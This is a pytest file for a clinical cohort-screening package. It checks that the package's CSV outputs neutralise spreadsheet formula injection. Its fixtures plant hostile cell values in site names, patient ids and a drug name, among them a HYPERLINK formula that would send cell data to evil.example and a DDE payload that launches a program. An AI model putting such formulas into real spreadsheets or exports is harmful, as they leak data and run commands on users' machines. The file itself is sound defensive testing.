"""No CSV file the package writes holds a cell a spreadsheet would run as a formula.

The demo extract gets formula-like values where the data reach the outputs
(site names, patient and study ids, a lesion id, a drug name); then every
command runs on it (screen, screen --worklist, validate --problems, attrition,
attrition --by site, report, accrual with a --sites file of hostile names,
import of OMOP and NKR samples with such values, synth) and every CSV file of
every output folder, the members of shareable.zip included, is read back. A
cell is a raw formula when it starts with = + - @ tab or CR and is not a plain
number (a negative count is a number, not a formula). The test also checks
the hostile values did reach the outputs (written inert), so it cannot pass
by finding nothing. Property tests check the writer's rule on generated
values, for DataFrames and DuckDB relations alike.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from oligo_cohort.cli import main
from oligo_cohort.csv_output import FORMULA_STARTS, INERT_MARK, inert, read_back, write_csv
from oligo_cohort.paths import demo_extract_dir
from tests.draws import costly_draws

PACKAGE = Path(__file__).resolve().parents[2] / "oligo_cohort"
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

SITES = {
    "AVL": '=HYPERLINK("http://evil.example/?d="&A1,"AVL")',
    "UMCU": "+31 UMCU",
    "MST": "@SUM(A1:A9)",
}
PATIENT = ("00107", "-00107")  # a patient id that a spreadsheet would compute
STUDY_PREFIX = "="  # every study id of that patient starts a formula
DRUG = "+cmd|' /C calc'!A0"


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula start, and not a plain number."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def every_csv(root: Path) -> dict[str, str]:
    """The text of every CSV file under `root`, and of every CSV member of its zip files."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        if path.suffix == ".csv":
            found[path.relative_to(root).as_posix()] = path.read_bytes().decode("utf-8")
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    if member.endswith(".csv"):
                        key = f"{path.relative_to(root).as_posix()}!{member}"
                        found[key] = archive.read(member).decode("utf-8")
    return found


def hostile_extract(folder: Path) -> Path:
    """The demo extract with formula-like site names, ids and a drug name."""
    folder.mkdir(parents=True)
    for file in sorted(demo_extract_dir().glob("*.csv")):
        frame = pd.read_csv(file, dtype=str, keep_default_na=False)
        if "site_id" in frame:
            frame["site_id"] = frame["site_id"].replace(SITES)
        if "patient_id" in frame:
            frame["patient_id"] = frame["patient_id"].replace({PATIENT[0]: PATIENT[1]})
        if "study_id" in frame:
            ours = frame["study_id"].str.startswith(PATIENT[0])
            frame.loc[ours, "study_id"] = STUDY_PREFIX + frame.loc[ours, "study_id"]
        if file.stem == "lesions":
            frame.loc[0, "lesion_id"] = "-L1"
        if file.stem == "systemic_therapy":
            frame.loc[len(frame)] = {"patient_id": "00115", "drug": DRUG, "start_date": "2023-03-01", "end_date": "",
                                     "setting": "metastatic"}  # fmt: skip
        frame.to_csv(folder / file.name, index=False)
    return folder


def omop_source(folder: Path) -> Path:
    from tests.importers.test_import_omop import omop_tables, write_folder

    tables = omop_tables()
    tables["care_site"]["care_site_source_value"] = SITES["AVL"]
    tables["location"]["location_source_value"] = SITES["MST"]
    return write_folder(tables, folder)


def nkr_source(path: Path) -> Path:
    from tests.importers.test_import_nkr import ROWS, write_nkr

    return write_nkr(path, rows=[row.replace(";AVL;", ";=1+2;").replace(";UMCU;", ";-UMCU;") for row in ROWS])


def stub_savefig(figure, fname, *args, **kwargs) -> None:
    """Figures are not CSV files: drawn, but not rendered (rendering is most of the report's time)."""
    svg = str(fname).endswith(".svg") or kwargs.get("format") == "svg"
    data = b"<svg xmlns='http://www.w3.org/2000/svg'/>" if svg else b"-"
    if hasattr(fname, "write"):
        fname.write(data)
    else:
        Path(fname).write_bytes(data)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, Path]:
    """Every command run once on hostile inputs; their output folders (and files) by name."""
    import matplotlib.figure

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(matplotlib.figure.Figure, "savefig", stub_savefig)
        return run_every_command(tmp_path_factory.mktemp("formulas"))


def run_every_command(root: Path) -> dict[str, Path]:
    extract = hostile_extract(root / "extract")
    sites = root / "sites.csv"
    names = [*SITES.values(), '=HYPERLINK("http://evil.example","new site")']
    rates = ["0.5", "0.25", "", "0.3"]
    sites.write_text(
        "site_id,activation_date,planned_rate\n"
        + "".join(f'"{n.replace(chr(34), chr(34) * 2)}",2025-03-01,{r}\n' for n, r in zip(names, rates, strict=True)),
        encoding="utf-8",
    )
    out = {name: root / name for name in ("screen", "worklist", "attrition", "by_site", "report", "accrual")}
    out |= {name: root / name for name in ("omop", "nkr", "synth", "problems.csv", "dictionary.md")}
    runs = [
        ["screen", str(extract), "--out", str(out["screen"]), "--quiet"],
        ["screen", str(extract), "--out", str(out["worklist"]), "--worklist", "--parquet", "--quiet"],
        ["validate", str(extract), "--problems", str(out["problems.csv"])],
        ["attrition", str(out["screen"]), "--out", str(out["attrition"]), "--no-figures"],
        ["attrition", str(out["screen"]), "--out", str(out["by_site"]), "--by", "site", "--no-figures"],
        ["report", str(extract), "--out", str(out["report"]), "--no-disclosure-control"],
        ["accrual", str(out["screen"]), "--target", "6", "--start", "2025-01-01", "--out", str(out["accrual"]),
         "--sites", str(sites), "--no-disclosure-control"],
        ["import", "omop", str(omop_source(root / "omop-source")), "--out", str(out["omop"])],
        ["import", "nkr", str(nkr_source(root / "nkr.csv")), "--out", str(out["nkr"])],
        ["synth", "--patients", "300", "--sites", "4", "--format", "csv", "--out", str(out["synth"]), "--quiet"],
        ["dictionary", "--out", str(out["dictionary.md"])],
    ]  # fmt: skip
    for argv in runs:
        assert main(argv) == 0, argv
    return out


def test_no_output_holds_a_raw_formula_cell(outputs):
    checked = 0
    for name, path in outputs.items():
        files = (
            every_csv(path)
            if path.is_dir()
            else ({name: path.read_bytes().decode("utf-8")} if name.endswith(".csv") else {})
        )
        for file, text in files.items():
            rows = csv_rows(text)
            assert len({len(r) for r in rows}) <= 1, f"{name}/{file}: ragged rows"
            assert formula_cells(rows) == [], f"{name}/{file}"
            checked += 1
    assert checked > 60, checked  # every command's tables, the zip members included


def test_the_hostile_values_reached_the_outputs_inert(outputs):
    """Without this the walk above could pass by finding none of the values it guards against."""
    texts = {name: "\n".join(every_csv(path).values()) for name, path in outputs.items() if path.is_dir()}
    texts["problems.csv"] = outputs["problems.csv"].read_text(encoding="utf-8")
    link = INERT_MARK + SITES["AVL"].replace('"', '""')
    for name in ("screen", "worklist", "by_site", "report", "accrual", "omop"):
        assert link in texts[name], name
    assert INERT_MARK + PATIENT[1] in texts["screen"]
    assert INERT_MARK + STUDY_PREFIX + PATIENT[0] in texts["screen"]
    assert INERT_MARK + DRUG in texts["screen"] and INERT_MARK + DRUG in texts["problems.csv"]
    assert INERT_MARK + "@SUM(A1:A9)" in texts["accrual"]
    assert INERT_MARK + "=1+2" in texts["nkr"] and INERT_MARK + "-UMCU" in texts["nkr"]
    with zipfile.ZipFile(outputs["report"] / "shareable.zip") as archive:
        by_site = archive.read("tables/attrition_patients_by_site.csv").decode("utf-8")
    assert link in by_site


def test_numbers_stay_numbers(outputs):
    """Negative and signed numbers in number columns are written as numbers, not text."""
    forecast = pd.read_csv(outputs["worklist"] / "worklist.csv", dtype=str)
    assert forecast["days_left"].str.fullmatch(r"-?\d+").all()
    table = pd.read_csv(outputs["attrition"] / "impact.csv")
    numeric = table.select_dtypes("number")
    assert not numeric.empty, "the impact table has number columns, written as numbers"


def test_the_worklist_parquet_twins_keep_the_values(outputs):
    patients = pd.read_parquet(outputs["worklist"] / "patients.parquet")
    assert set(SITES.values()) <= set(patients["site_id"])
    assert PATIENT[1] in set(patients["patient_id"])


def test_a_screen_folder_reads_back_the_values_as_they_were(outputs):
    """The inert mark is undone on reading: attrition and accrual see the site names of the extract."""
    from oligo_cohort.api import read_screen_dir

    result = read_screen_dir(outputs["screen"])
    assert set(SITES.values()) <= set(result.patients["site_id"])
    assert PATIENT[1] in set(result.patients["patient_id"])


def test_every_csv_of_the_package_is_written_by_the_one_writer():
    """`to_csv` / `write_csv` / csv writers appear only in the writer module (synth writes generated values)."""
    pattern = re.compile(r"\.to_csv\([^)]|\.write_csv\(|csv\.writer\(|csv\.DictWriter\(|\bCOPY\b.*FORMAT csv", re.I)
    allowed = {"csv_output.py", "synth/writer.py"}
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        name = path.relative_to(PACKAGE).as_posix()
        text = path.read_text(encoding="utf-8")
        if name not in allowed and pattern.search(text):
            offenders.append(name)
    assert offenders == [], offenders


# --- the rule itself, on generated values ---------------------------------------------------------------------

texts = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\",; aZ09.éE")), max_size=8)


@settings(max_examples=200, deadline=None)
@given(st.lists(texts, min_size=1, max_size=6), st.lists(st.integers(-1000, 1000), min_size=1, max_size=6))
def test_frames_are_written_inert_and_read_back_exactly(values, numbers):
    n = min(len(values), len(numbers))
    frame = pd.DataFrame({"text": values[:n], "number": numbers[:n]})
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = csv_rows(buffer.getvalue())[1:]
    assert formula_cells([[r[0]] for r in rows]) == []
    assert [read_back(r[0]) for r in rows] == [v for v in values[:n]]
    assert [int(r[1]) for r in rows] == numbers[:n]  # negative numbers stay numbers


@settings(max_examples=costly_draws(40), deadline=None)
@given(st.lists(st.one_of(texts, st.none()), min_size=1, max_size=6))
def test_relations_are_written_like_frames(scratch, values):
    folder = Path(tempfile.mkdtemp(dir=scratch))
    con = duckdb.connect()
    con.register("frame", pd.DataFrame({"text": pd.Series(values, dtype=object), "n": range(len(values))}))
    relation = con.sql("SELECT text, n - 3 AS n FROM frame")
    write_csv(relation, folder / "r.csv", order="n")
    buffer = io.StringIO()
    write_csv(pd.DataFrame({"text": pd.Series(values, dtype=object), "n": [i - 3 for i in range(len(values))]}), buffer)
    from_relation = csv_rows((folder / "r.csv").read_bytes().decode("utf-8"))
    from_frame = csv_rows(buffer.getvalue())
    # NULL and empty text differ in how each writer quotes them; the cells' values agree.
    assert [[c.strip('"') for c in r] for r in from_relation] == [[c.strip('"') for c in r] for r in from_frame]
    assert formula_cells(from_relation) == []


@given(st.from_regex(NUMBER, fullmatch=True), texts)
def test_number_columns_keep_plain_numbers_and_make_anything_else_inert(number, text):
    frame = pd.DataFrame({"size": [number, text]})
    buffer = io.StringIO()
    write_csv(frame, buffer, number_columns=["size"])
    rows = csv_rows(buffer.getvalue())[1:]
    assert rows[0] == [number]
    expected = text if NUMBER.fullmatch(text) else inert(text)
    assert (rows[1] or [""])[0] == expected


@pytest.fixture(scope="module")
def scratch(tmp_path_factory) -> Path:
    """One folder for the generated examples (a numbered temporary folder per example gets slow)."""
    return tmp_path_factory.mktemp("examples")


def test_an_imported_extract_reads_back_the_values_as_they_were(outputs):
    """The imported tables carry the inert mark in CSV; screening the extract reads the values without it, so an id
    or a site starting with a formula character is the same in every table (sources.TOOL_EXTRACTS)."""
    from oligo_cohort.api import screen

    patients = screen(outputs["nkr"]).patients
    assert "-UMCU" in set(patients["site_id"]) and not any(s.startswith(INERT_MARK) for s in patients["site_id"])
    assert not any(p.startswith(INERT_MARK) for p in patients["patient_id"])


# --- the writer keeps the rows in the order they come ----------------------------------------------------------
# The reasons are stored in output order and written without a sort (oligo_cohort.explain): the writer's query
# must pass rows on as they come, beyond a row group (122,880 rows, read by one thread each) too.

starts = st.text(alphabet=st.sampled_from([*FORMULA_STARTS, INERT_MARK, "a", "P", "0", " "]), min_size=1, max_size=2)


@settings(max_examples=costly_draws(4), deadline=None)
@given(st.lists(starts, min_size=1, max_size=8, unique=True))
def test_a_table_stored_in_output_order_is_written_in_that_order(scratch, prefixes):
    folder = Path(tempfile.mkdtemp(dir=scratch))
    con = duckdb.connect(config={"threads": 2, "preserve_insertion_order": True})
    rows = 300_000
    con.execute("CREATE TABLE prefixes AS SELECT * FROM unnest($p) WITH ORDINALITY AS t(prefix, k)", {"p": prefixes})
    con.execute(
        f"CREATE TABLE stored AS SELECT p.prefix || CAST(r.range AS VARCHAR) AS text, r.range AS n "
        f"FROM range({rows}) AS r JOIN prefixes AS p ON p.k = r.range % {len(prefixes)} + 1 ORDER BY r.range"
    )
    write_csv(con.sql("SELECT text, n FROM stored"), folder / "stored.csv")
    # Read with Python's csv module: pandas' reader drops a leading space at some of its buffer boundaries.
    written = csv_rows((folder / "stored.csv").read_bytes().decode("utf-8"))[1:]
    assert [int(n) for _, n in written] == list(range(rows))
    assert [read_back(text) for text, _ in written] == [prefixes[n % len(prefixes)] + str(n) for n in range(rows)]


def test_the_writers_queries_pass_rows_on_as_they_come(tmp_path, monkeypatch):
    """No join in what the writer asks of DuckDB: a join may pass rows on in another order. (DuckDB turns an
    IN list of five values or more into one, which once wrote the reasons of 10,000 patients out of order.)"""
    from oligo_cohort import csv_output
    from oligo_cohort.api import screen

    plans = []  # the plan of each query the writer writes, as it builds it
    inert_relation = csv_output.inert_relation

    def recording(*args, **kwargs):
        relation = inert_relation(*args, **kwargs)
        plans.append(relation.explain())
        return relation

    monkeypatch.setattr(csv_output, "inert_relation", recording)
    out = screen(demo_extract_dir(), worklist=True).write(tmp_path / "out")
    assert len(plans) == len(list(out.glob("*.csv"))) == 5  # patients, events, reasons, findings, worklist
    for plan in plans:
        assert "JOIN" not in plan.upper(), plan
